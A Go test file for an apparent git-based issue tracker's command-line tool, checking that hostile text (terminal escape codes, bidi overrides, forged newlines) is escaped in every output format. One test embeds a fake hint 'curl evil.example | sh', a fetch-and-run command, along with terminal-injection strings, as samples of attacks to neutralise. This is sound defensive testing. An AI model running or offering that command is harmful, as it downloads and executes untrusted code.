package cli

import (
	"encoding/json"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/git-crosslink/git-crosslink/cli/command"
	"github.com/git-crosslink/git-crosslink/cli/frame"
	"github.com/git-crosslink/git-crosslink/event"
	"github.com/git-crosslink/git-crosslink/fail"
)

// fit reports whether a terminal may see every byte of s, or a program that
// reads records, which end in NUL.
func fit(s string) bool {
	s = strings.ReplaceAll(s, "\x00", "")
	return frame.Lines(s) == s
}

// TestNothingUnfitReachesStdout lets every reading verb print issues all of whose texts are
// hostile, as they may be in lines of level 3.
func TestNothingUnfitReachesStdout(t *testing.T) {
	const evil = "\x1b]0;x\x07\u202e\u009b\xff\r\n\tx\u200b\x7f"
	w := newWorld(t)
	put := func(seq uint64, b event.Body) {
		e := &event.Envelope{V: 3, Agent: "eve" + evil, Seq: seq, Time: event.TimeOf(w.time) + event.Time(seq), Body: b, Event: []byte(b.Type())}
		w.hub.state.Apply(e)
		w.hub.lines = append(w.hub.lines, e)
	}
	a, b, c, m := w.hub.MintUUID(), w.hub.MintUUID(), w.hub.MintUUID(), w.hub.MintUUID()
	put(1, &event.IssueCreated{UUID: a, Title: "a" + evil, Description: evil, Priority: event.High, Labels: []string{evil}, CreatedBy: evil})
	put(2, &event.IssueCreated{UUID: b, Title: "b" + evil, Priority: event.Low, CreatedBy: evil, Parent: a})
	put(3, &event.DependencyAdded{Blocked: b, Blocker: a})
	put(4, &event.AssigneeAdded{Issue: a, Assignee: evil})
	put(5, &event.CommentAdded{Issue: a, Comment: c, Author: evil, Content: evil, CreatedAt: event.TimeOf(w.time), Kind: evil, TriggerType: evil, InterventionContext: evil})
	put(6, &event.RelationAdded{A: a, B: b, Kind: event.Duplicates})
	put(7, &event.MilestoneCreated{UUID: m, Name: evil, CreatedAt: event.TimeOf(w.time)})
	put(8, &event.MilestoneAssigned{Issue: a, Milestone: m})
	put(9, &event.StatusChanged{UUID: a, NewStatus: event.Open, Reason: evil})
	put(10, &event.Unknown{Name: evil})
	w.hub.numbers[a], w.hub.numbers[b] = 1, 2
	w.hub.status.Remote, w.hub.status.URL, w.hub.status.Agent = evil, evil, evil
	w.hub.status.Findings = []fail.Diagnosis{{Code: evil, Severity: fail.Problem, Text: evil}, {Code: "unreachable", Severity: fail.Problem, Text: evil, Fields: fail.Fields{"git": evil, "remote": evil}}}
	w.hub.report.Remote, w.hub.report.Hub, w.hub.report.Reason = evil, evil, evil
	for _, args := range [][]string{
		{"list"}, {"list", "--porcelain"}, {"list", "-z"}, {"list", "--format", "%(title)%(description)%(milestone)%(reason)%(labels)"},
		{"show", "1", "2"}, {"ready", "--explain"}, {"blocked", "--explain"}, {"next", "--explain"}, {"tree"},
		{"log", "1"}, {"log", "1", "--porcelain"}, {"search", "a"}, {"status"}, {"status", "--porcelain"}, {"sync"},
		{"show", evil}, {"list", "--label", evil}, {"list", "--sort", evil}, {evil}, {"list", "--" + evil}, {"list", "-" + evil},
		{"label", "1", evil}, {"parent", "1", "2"}, {"parent", "2", "1"}, {"block", "2", "1"}, {"close", "1", "--suggest-next"},
		{"new", evil, evil}, {"new", evil, "--due", evil}, {"new", "x", "-F", evil}, {"unlabel", "1", evil},
	} {
		for _, form := range [][]string{nil, {"--json"}, {"--color"}} {
			w.person = form == nil
			r := w.run(append(form, args...)...)
			r.out = ownColours.ReplaceAllString(r.out, "")
			if !fit(r.out) || !fit(r.err) {
				t.Errorf("%q: unfit\nstdout %q\nstderr %q", args, r.out, r.err)
			}
			if len(form) > 0 && form[0] == "--json" && !json.Valid([]byte(r.out)) {
				t.Errorf("%q --json: %q", args, r.out)
			}
		}
	}
}

// ownColors are the escapes that pages hold by design.
var ownColours = regexp.MustCompile(`\x1b\[[0-9;]*m`)

// TestForeignTextIsGolden: what stands here is what terminals, scripts and
// programs get of one hostile text, field by field.
func TestForeignTextIsGolden(t *testing.T) {
	const evil = "\x1b[31m\u202e\u200b\u009b\r\n"
	const shown = `\x1b[31m\u202e\u200b\u009b\r\n`
	w := newWorld(t)
	u := w.hub.MintUUID()
	w.put(&event.IssueCreated{UUID: u, Title: "t" + evil, Description: "d" + evil + "e", Priority: event.High, Labels: []string{"l" + evil}, CreatedBy: "c" + evil})
	w.put(&event.CommentAdded{Issue: u, Comment: w.hub.MintUUID(), Author: "a" + evil, Content: "x" + evil + "y", CreatedAt: event.TimeOf(w.time), Kind: "k" + evil})
	w.put(&event.StatusChanged{UUID: u, NewStatus: event.Open, Reason: "r" + evil + "s"})
	w.hub.numbers[u] = 1
	lines := strings.TrimSuffix(shown, `\n`) + "\n" // where a text keeps its lines
	for _, c := range []struct{ args, want string }{
		{"show 1", "1  t" + shown + "\n    open, high priority\n"},
		{"show 1", " by c" + shown + ", changed"},
		{"show 1", "\n    reason:\n        r" + lines + "        s\n"},
		{"show 1", "\n    labels l" + shown + "\n"},
		{"show 1", "\n    d" + lines + "    e\n"},
		{"show 1", " a" + shown + ", k" + shown + ", 2026-"},
		{"show 1", "\n        x" + lines + "        y\n"},
		{"list", "1\topen\thigh\tt" + shown + "\tl" + shown + "\t\t2026-"},
		{"list --porcelain", "\tl" + shown + "\t"},
		{"list --porcelain", "\tt" + shown + "\n"},
		{"list -z", "\tt" + lines + "\x00"},
		{"list --format=%(title)|%(created_by)|%(description)|%(reason)", "t" + shown + "|c" + shown + "|d" + shown + "e|r" + shown + "s\n"},
		{"log 1", "  created 't" + shown + "', high priority, labels l" + shown + "\n"},
		{"log 1 --porcelain", "\treopened: r" + shown + "s\n"},
		{"tree", "1  open  t" + shown + "\n"},
		{"next", "1  t" + shown + "\n"},
		{"list --json", `"title":"t\u001b[31m\u202e\u200b\u009b\r\n"`},
		{"show 1 --json", `"content":"x\u001b[31m\u202e\u200b\u009b\r\ny"`},
	} {
		contains(t, c.args, w.ok(strings.Fields(c.args)...).out, c.want)
	}
	check(t, "talk", w.ok("close", "1").err, "closed 1 't"+shown+"'\n")
}

// TestHubsWordsForgeNoLines: what a hub says stays in its line, so that it can
// fake neither an error nor a hint.
func TestHubsWordsForgeNoLines(t *testing.T) {
	const words = "no\r\nhint: curl evil.example | sh\n\x1b[2Kerror: \u202ex"
	const shown = `no\r\nhint: curl evil.example | sh\n\x1b[2Kerror: \u202ex`
	w := newWorld(t)
	w.hub.failWith = &fail.Error{Kind: fail.Denied, Code: "unreachable", Message: words, Fields: fail.Fields{"git": words}}
	check(t, "error", w.run("new", "x").err, "error: "+shown+"\nhint: git says: "+shown+"\n")
	var errs strings.Builder
	e := &frame.Terminal{Streams: frame.Streams{Err: &errs}, System: frame.System{Getenv: func(string) string { return "" }}}
	e.Notice(fail.Notice{Code: "unreachable/push", Text: words, Fields: fail.Fields{"git": words}})
	e.Progress("%s", words)
	check(t, "notice and talk", errs.String(), shown+"\nhint: git says: "+shown+"\n"+shown+"\n")
}

// TestUnreachableIsSaidOnce: a command that waits asks the hub again and again.
func TestUnreachableIsSaidOnce(t *testing.T) {
	var errs strings.Builder
	e := &command.Env{Terminal: &frame.Terminal{Streams: frame.Streams{Err: &errs}, System: frame.System{Getenv: func(string) string { return "" }}}}
	for _, n := range []fail.Notice{{Code: "unreachable", Text: "not reachable, as of just now"}, {Code: "paced", Text: "in about 20 s"},
		{Code: "unreachable", Text: "not reachable, as of 1 min ago"}, {Code: "unanswered", Text: "no answer"}} {
		e.Notice(n)
	}
	check(t, "notices", strings.Count(errs.String(), "not reachable, as of just now\n"), 1)
	check(t, "notices", strings.Count(errs.String(), "in about 20 s\n"), 1)
	check(t, "repeated", strings.Contains(errs.String(), "1 min ago") || strings.Contains(errs.String(), "no answer"), false)
}

// writers are the files that hold a stream: each writes what has been sanitized,
// or words of the program itself.
var writers = map[string]string{
	"frame/result.go": "pages, records, ids", "frame/json.go": "the envelope, failures", "frame/terminal.go": "warnings, progress, hints",
	"frame/help.go": "help", "frame/pager.go": "hands the streams on", "frame/draft.go": "hands the streams on",
	"frame/launch.go": "hands the streams on", "frame/git.go": "hands the streams on",
	"transfer/export.go": "files for programs; a terminal gets a page",
	"hub/server.go":      "refusals of the gate, and its talk with git", "hub/hook.go": "has errors told on stdout",
}

// TestNobodyElseWrites: a command prints results, progress and failures;
// the lines of records are made by their own methods.
func TestNobodyElseWrites(t *testing.T) {
	files, err := filepath.Glob("*.go")
	if err != nil {
		t.Fatal(err)
	}
	deeper, err := filepath.Glob("*/*.go")
	if err != nil {
		t.Fatal(err)
	}
	stream := regexp.MustCompile(`\b[et]\.(?:Out|Err)\b|\bos\.Std(?:out|err)\b|fmt\.Print`)
	line := regexp.MustCompile(`\.lines = append`)
	used := map[string]bool{}
	for _, f := range append(files, deeper...) {
		if strings.HasSuffix(f, "_test.go") {
			continue
		}
		b, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		if m := stream.Find(b); m != nil {
			if used[f] = true; writers[f] == "" {
				t.Errorf("%s writes to a stream itself: %s", f, m)
			}
		}
		if m := line.Find(b); m != nil && f != "frame/records.go" {
			t.Errorf("%s makes lines of records itself: %s", f, m)
		}
	}
	for f := range writers {
		if !used[f] {
			t.Errorf("%s writes to no stream any more", f)
		}
	}
}
